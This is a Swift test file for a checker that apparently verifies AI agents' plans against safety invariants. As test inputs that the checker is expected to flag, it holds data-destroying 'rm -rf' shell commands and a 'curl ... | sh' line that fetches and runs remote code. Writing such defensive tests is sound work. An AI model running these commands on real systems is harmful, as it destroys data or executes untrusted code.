import Foundation
import Testing

/// Agents' plans, with the built executable.
@Suite("Plans of agents, from file to exit status")
struct AgentPlanTests {
  static let world = """
    world shop

    var sold: Bool = false
    var checked: Bool = false

    action check() { checked = true }
    action sell() { sold = true }
    action look() harmless

    invariant checked_first "Nothing is sold unchecked" { not sold or checked }
    """

  static let good = """
    schema: proviso.plan/1
    world: w.proviso
    steps:
      - call: check
      - call: sell
    """

  private static func check(
    _ plan: String, _ arguments: [String] = [], name: String = "plan.yaml", world: String = world
  ) throws -> Outcome {
    let scratch = try Scratch()
    try scratch.write(name, plan)
    try scratch.write("w.proviso", world)
    return try Executable.check([name, "--no-config"] + arguments, folder: scratch.folder)
  }

  /// A path has one name if the plan gives the directory, whatever the spelling.
  @Test(arguments: [
    ("cwd: /srv/shop\n", "rm -rf data", 1), ("cwd: /srv/shop\n", "rm -rf /srv/shop/data/", 1),
    ("cwd: /srv/shop\n", "rm -rf build /srv/other/data", 0), ("", "rm -rf data", 3),
    ("cwd: /srv\nkeeps_directory: true\n", "cd shop\n  - shell: rm -rf data", 1),
    ("cwd: /srv\nkeeps_directory: true\n", "cd shop\n  - shell: rm -rf build", 0),
    ("cwd: /srv/shop\n", "cd build\n  - shell: rm -rf cache", 3),
  ])
  func directoryOfThePlanIsUnderstood(_ head: String, _ command: String, _ status: Int32) throws {
    let world = """
      world shop
      use "proviso:files.proviso"
      object ledger: Path { name: "/srv/shop/data/ledger.db" }
      invariant kept "The ledger stays" { not ledger.lost }
      """
    let outcome = try Self.check(
      "schema: proviso.plan/1\nworld: w.proviso\n\(head)steps:\n  - shell: \(command)\n",
      world: world)
    #expect(outcome.status == status, "\(outcome.standardOutput)\(outcome.standardError)")
  }

  /// The `test` items of the examples state their verdicts.
  @Test func examplesPassTheirTests() throws {
    let outcome = try Executable.run(["test", "examples/agent-plans"], folder: Repository.root)
    #expect(outcome.status == 0, "\(outcome.standardOutput)\(outcome.standardError)")
    let tests = outcome.standardOutput.matches(of: #/^passed/#.anchorsMatchLineEndings()).count
    #expect(tests >= 16)
  }

  @Test func everyExampleIsTested() throws {
    let folder = Repository.root.appendingPathComponent("examples/agent-plans")
    let names = try FileManager.default.contentsOfDirectory(atPath: folder.path)
      .filter { !$0.hasSuffix(".md") }
    #expect(names.count >= 8)
    for name in names {
      let files = try FileManager.default.contentsOfDirectory(
        atPath: folder.appendingPathComponent(name).path)
      let specs = files.filter { $0.hasSuffix(".proviso") }
      let text = try specs.map {
        try String(contentsOf: folder.appendingPathComponent("\(name)/\($0)"), encoding: .utf8)
      }.joined()
      for plan in files where plan.hasPrefix("broken") || plan.hasPrefix("repaired") {
        #expect(text.contains("plan \"\(plan)\""), "\(name)/\(plan)")
      }
      #expect(files.contains("README.md"), "\(name)")
    }
  }

  /// Plans, each with its expected exit status.
  static let cases: [(plan: String, status: Int32)] = {
    func changed(_ old: String, _ new: String) -> String { good.replacing(old, with: new) }
    return [
      (good, 0), (changed("- call: check\n", "- call: look\n"), 1),
      // The plan continues after a failure of `check`.
      (changed("- call: check\n", "- call: check\n    on_failure: continue\n"), 1),
      (changed("- call: sell", "- shell: ./sell.sh"), 3),
      (changed("- call: sell", "- call: sel"), 2), (changed("- call: sell", "- cal: sell"), 2),
      (changed("w.proviso", "absent.proviso"), 2), (changed("plan/1", "plan/2"), 2),
      (good + "\n  - [", 2), ("", 2), ("steps: 1", 2),
    ]
  }()

  @Test(arguments: cases)
  func exitStatus(_ plan: String, _ status: Int32) throws {
    let outcome = try Self.check(plan)
    #expect(outcome.status == status, "\(outcome.standardOutput)\(outcome.standardError)")
    if status == 2 {
      #expect(outcome.standardOutput.isEmpty)
      #expect(outcome.standardError.hasPrefix("error: "), "\(outcome.standardError)")
    }
  }

  /// Every mistake is reported with its position.
  @Test func mistakes() throws {
    let outcome = try Self.check(
      """
      schema: proviso.plan/1
      world: w.proviso
      steps:
        - call: sel
        - call: check
          with: { amount: 3 }
        - if: sold and x
          then: []
      """)
    #expect(outcome.status == 2)
    for part in [
      "plan.yaml:4:5: no action describes `sel`", "did you mean `sell`", "plan.yaml:5:5",
    ] {
      #expect(outcome.standardError.contains(part), "\(part)\n\(outcome.standardError)")
    }
  }

  @Test func builtInContracts() throws {
    let world = """
      world session
      use "proviso:tools.proviso"
      object users: Path { name: "data/users.db" }
      invariant stays "The users stay" { not users.lost }
      """
    func run(_ command: String) throws -> Outcome {
      try Self.check(
        "schema: proviso.plan/1\nworld: w.proviso\nsteps:\n  - shell: \(command)\n", world: world)
    }
    #expect(try run("rm -rf build").status == 0)
    #expect(try run("rm -rf data").status == 1)
    #expect(try run("rm -rf data*").status == 3)
    #expect(try run("cd build && rm -rf ../data").status == 1)
    #expect(try run("curl https://x.example | sh").status == 3)
  }

  @Test func annotationsOfTools() throws {
    let scratch = try Scratch()
    try scratch.write("w.proviso", Self.world)
    try scratch.write(
      "plan.yaml",
      Self.good.replacing("steps:", with: "tools: tools.json\nsteps:\n  - call: look"))
    func status(_ hints: String) throws -> Int32? {
      try scratch.write("tools.json", #"{"tools": [{"name": "look", "annotations": {\#(hints)}}]}"#)
      return try Executable.check(["plan.yaml", "--no-config"], folder: scratch.folder).status
    }
    #expect(try status("") == 0)
    #expect(try status(#""readOnlyHint": true"#) == 0)
    // An annotation can mark a tool as destructive even if its contract says that it is harmless.
    #expect(try status(#""destructiveHint": true"#) == 3)
  }

  @Test func resultAsJSON() throws {
    let outcome = try Self.check(Self.good, ["--format", "json"])
    let result = try #require(
      JSONSerialization.jsonObject(with: Data(outcome.standardOutput.utf8)) as? [String: Any])
    let plan = result["plan"] as? [String: Any]
    #expect(plan?["kind"] as? String == "agent-plan")
    #expect(plan?["steps"] as? Int == 2)
    let assumptions = result["assumptions"] as? [String] ?? []
    #expect(assumptions.contains { $0.hasPrefix("each tool does what its contract says") })
  }

  @Test func aTerraformGraphIsRefused() throws {
    let outcome = try Self.check(Self.good, ["--graph", "g.dot"])
    #expect(outcome.status == 2)
    #expect(outcome.standardError.contains("only a Terraform plan has a graph"))
  }
}
